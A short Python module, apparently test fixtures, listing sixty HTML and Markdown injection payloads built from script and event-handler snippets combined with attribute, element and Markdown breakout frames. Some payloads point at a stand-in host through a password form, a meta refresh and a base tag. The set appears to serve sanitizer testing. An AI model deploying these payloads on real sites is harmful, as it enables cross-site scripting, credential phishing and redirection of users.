"""Texts that become programs, forms or requests where a page takes them for HTML or Markdown."""

FOREIGN = "http://foreign.example"

_SCRIPTS = (
    "<script>window.pwn=1</script>",
    "<img src=x onerror=window.pwn=1>",
    "<svg onload=window.pwn=1></svg>",
    "<a href='javascript:window.pwn=1' autofocus onfocus=window.pwn=1>x</a>",
    "<iframe srcdoc='<script>parent.window.pwn=1</script>'></iframe>",
    "<details open ontoggle=window.pwn=1>x</details>",
    "<form action=" + FOREIGN + "/f><input type=password name=p autofocus onfocus=window.pwn=1></form>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=" + FOREIGN + "/m'>",
    "<img src=" + FOREIGN + "/i.png>",
)
"""The ten kinds of the threat list."""

_FRAMES = ("{}", '">{}', "'>{}", "</textarea></title></style>{}", "](x)\n\n{}\n")
"""Ways out of an attribute, an element and Markdown."""

PAYLOADS = (
    *(frame.replace("{}", script) for frame in _FRAMES for script in _SCRIPTS),
    f"![x]({FOREIGN}/markdown.png)",
    "[x](javascript:window.pwn=1)",
    f"<{FOREIGN}/auto>",
    ":material/home: :red[x] <b>",
    "$\\href{javascript:window.pwn=1}{x}$",
    f"![x][y]\n\n[y]: {FOREIGN}/reference.png",
    "<math><mtext><script>window.pwn=1</script></mtext></math>",
    f"<link rel=stylesheet href={FOREIGN}/s.css>",
    f"<object data={FOREIGN}/o></object>",
    f"<base href={FOREIGN}/>",
)
"""Sixty."""
